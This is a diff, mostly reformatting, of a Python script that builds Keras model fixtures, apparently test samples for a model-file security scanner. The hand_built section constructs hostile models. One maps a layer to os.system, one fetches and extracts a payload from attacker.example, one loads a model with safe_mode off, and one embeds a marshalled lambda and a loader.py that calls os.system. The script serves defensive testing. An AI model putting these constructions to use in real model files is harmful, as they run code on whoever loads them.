@@ -58,16 +58,18 @@ def k3_functional() -> keras.Model:
 
 
 def k3_cnn() -> keras.Model:
-    return keras.Sequential([
-        keras.Input((8, 8, 1)),
-        keras.layers.Rescaling(1 / 255),
-        keras.layers.Conv2D(2, 3, padding="same", activation="relu"),
-        keras.layers.BatchNormalization(),
-        keras.layers.MaxPooling2D(),
-        keras.layers.SeparableConv2D(2, 3, padding="same"),
-        keras.layers.GlobalAveragePooling2D(),
-        keras.layers.Dense(2, activation="softmax"),
-    ])
+    return keras.Sequential(
+        [
+            keras.Input((8, 8, 1)),
+            keras.layers.Rescaling(1 / 255),
+            keras.layers.Conv2D(2, 3, padding="same", activation="relu"),
+            keras.layers.BatchNormalization(),
+            keras.layers.MaxPooling2D(),
+            keras.layers.SeparableConv2D(2, 3, padding="same"),
+            keras.layers.GlobalAveragePooling2D(),
+            keras.layers.Dense(2, activation="softmax"),
+        ]
+    )
 
 
 def k3_rnn() -> keras.Model:
@@ -81,20 +83,22 @@ def k3_rnn() -> keras.Model:
 
 def k3_compiled() -> keras.Model:
     """Non-default initializers, regularizers, constraints, schedules, losses and metrics as objects."""
-    model = keras.Sequential([
-        keras.Input((4,)),
-        keras.layers.Dense(
-            3,
-            kernel_initializer=keras.initializers.HeNormal(seed=1),
-            bias_initializer=keras.initializers.Constant(0.1),
-            kernel_regularizer=keras.regularizers.L1L2(0.01, 0.01),
-            kernel_constraint=keras.constraints.MaxNorm(2.0),
-            activation=keras.activations.gelu,
-        ),
-        keras.layers.Embedding(10, 2, embeddings_initializer=keras.initializers.RandomNormal(seed=2)),
-        keras.layers.Flatten(),
-        keras.layers.Dense(1, activity_regularizer=keras.regularizers.L2(0.1)),
-    ])
+    model = keras.Sequential(
+        [
+            keras.Input((4,)),
+            keras.layers.Dense(
+                3,
+                kernel_initializer=keras.initializers.HeNormal(seed=1),
+                bias_initializer=keras.initializers.Constant(0.1),
+                kernel_regularizer=keras.regularizers.L1L2(0.01, 0.01),
+                kernel_constraint=keras.constraints.MaxNorm(2.0),
+                activation=keras.activations.gelu,
+            ),
+            keras.layers.Embedding(10, 2, embeddings_initializer=keras.initializers.RandomNormal(seed=2)),
+            keras.layers.Flatten(),
+            keras.layers.Dense(1, activity_regularizer=keras.regularizers.L2(0.1)),
+        ]
+    )
     schedule = keras.optimizers.schedules.CosineDecay(0.01, 100, warmup_target=0.1, warmup_steps=10)
     model.compile(
         optimizer=keras.optimizers.AdamW(schedule),
@@ -156,8 +160,9 @@ def k3_tfsm_layer(tmp: Path) -> keras.Model:
 
 
 def k2_sequential() -> Any:
-    model = tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(3, activation="relu"),
-                                 tf_keras.layers.Dense(1)])
+    model = tf_keras.Sequential(
+        [tf_keras.Input((4,)), tf_keras.layers.Dense(3, activation="relu"), tf_keras.layers.Dense(1)]
+    )
     model.compile(optimizer="adam", loss="mse", metrics=["mae"])
     return model
 
@@ -173,13 +178,15 @@ def k2_functional() -> Any:
 
 
 def k2_cnn() -> Any:
-    return tf_keras.Sequential([
-        tf_keras.Input((8, 8, 1)),
-        tf_keras.layers.Conv2D(2, 3, activation="relu"),
-        tf_keras.layers.MaxPooling2D(),
-        tf_keras.layers.Flatten(),
-        tf_keras.layers.Dense(2, activation="softmax"),
-    ])
+    return tf_keras.Sequential(
+        [
+            tf_keras.Input((8, 8, 1)),
+            tf_keras.layers.Conv2D(2, 3, activation="relu"),
+            tf_keras.layers.MaxPooling2D(),
+            tf_keras.layers.Flatten(),
+            tf_keras.layers.Dense(2, activation="softmax"),
+        ]
+    )
 
 
 def k2_rnn() -> Any:
@@ -229,8 +236,9 @@ def write_zip(path: Path, members: dict[str, bytes]) -> None:
             archive.writestr(name, data)
 
 
-def edit_keras(source: Path, target: Path, edit: Callable[[dict[str, Any]], None],
-               extra: dict[str, bytes] | None = None) -> None:
+def edit_keras(
+    source: Path, target: Path, edit: Callable[[dict[str, Any]], None], extra: dict[str, bytes] | None = None
+) -> None:
     members = read_zip(source)
     config = json.loads(members["config.json"])
     edit(config)
@@ -264,8 +272,10 @@ def as_lambda_layer(target: dict[str, Any], function: Any, arguments: dict[str, 
 
 def lambda_object() -> dict[str, Any]:
     code = hostile_lambda("generic").__code__
-    return {"class_name": "__lambda__", "config": {"value": [base64.b64encode(marshal.dumps(code)).decode(),
-                                                             None, None]}}
+    return {
+        "class_name": "__lambda__",
+        "config": {"value": [base64.b64encode(marshal.dumps(code)).decode(), None, None]},
+    }
 
 
 def hand_built(tmp: Path) -> None:
@@ -275,12 +285,18 @@ def hand_built(tmp: Path) -> None:
         layers(config)[1].update(module="os", class_name="system", registered_name="system")
 
     def get_file(config: dict[str, Any]) -> None:
-        as_lambda_layer(layers(config)[1], function_ref("keras.utils", "get_file"),
-                        {"fname": "x", "origin": "https://attacker.example/payload.tar.gz", "extract": True})
+        as_lambda_layer(
+            layers(config)[1],
+            function_ref("keras.utils", "get_file"),
+            {"fname": "x", "origin": "https://attacker.example/payload.tar.gz", "extract": True},
+        )
 
     def load_model(config: dict[str, Any]) -> None:
-        as_lambda_layer(layers(config)[1], function_ref("keras.saving", "load_model"),
-                        {"filepath": "/tmp/evil.keras", "safe_mode": False})
+        as_lambda_layer(
+            layers(config)[1],
+            function_ref("keras.saving", "load_model"),
+            {"filepath": "/tmp/evil.keras", "safe_mode": False},
+        )
 
     def unsafe(config: dict[str, Any]) -> None:
         as_lambda_layer(layers(config)[1], function_ref("keras.config", "enable_unsafe_deserialization"), {})
@@ -312,11 +328,16 @@ def hand_built(tmp: Path) -> None:
     nested = io.BytesIO()
     with zipfile.ZipFile(nested, "w") as archive:
         archive.writestr("inner.txt", "nested")
-    edit_keras(base, HOSTILE / "unexpected_members.keras", lambda config: None, {
-        "loader.py": b"import os\nos.system('touch /tmp/modelshield-marker-loader')\n",
-        "extra/state.pkl": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.",
-        "bundle.zip": nested.getvalue(),
-    })
+    edit_keras(
+        base,
+        HOSTILE / "unexpected_members.keras",
+        lambda config: None,
+        {
+            "loader.py": b"import os\nos.system('touch /tmp/modelshield-marker-loader')\n",
+            "extra/state.pkl": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.",
+            "bundle.zip": nested.getvalue(),
+        },
+    )
 
     def tf_read_file(config: dict[str, Any]) -> None:
         layer = layers(config)[1]
